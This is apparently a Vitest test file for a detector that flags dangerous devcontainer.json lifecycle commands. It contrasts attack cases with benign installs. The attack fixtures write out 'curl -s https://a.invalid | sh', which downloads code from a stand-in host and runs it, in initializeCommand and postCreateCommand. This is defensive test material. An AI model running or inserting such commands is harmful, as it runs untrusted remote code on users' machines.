import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-host-command.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

test.each<[string, Files, string[]]>([
  [
    'on the machine',
    { '.devcontainer/devcontainer.json': '{"initializeCommand": "curl -s https://a.invalid | sh"}' },
    ['decisive 13 .devcontainer/devcontainer.json:1:52'],
  ],
  [
    'in the container',
    {
      '.devcontainer/devcontainer.json':
        '{"postCreateCommand": {"a": ["sh", "-c", "curl -s https://a.invalid | sh"]}}',
    },
    ['strong 6 .devcontainer/devcontainer.json:1:31'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  [
    'packages',
    { '.devcontainer/devcontainer.json': '{"postCreateCommand": "npm ci && npx playwright install"}' },
    [],
  ],
  [
    'a tool from its maker',
    { '.devcontainer.json': '{"postCreateCommand": "curl -fsSL https://bun.sh/install | bash"}' },
    [],
  ],
  [
    'a folder on the machine',
    { '.devcontainer/devcontainer.json': '{"initializeCommand": "mkdir -p .cache"}' },
    ['context 1.5 .devcontainer/devcontainer.json:1:24'],
  ],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
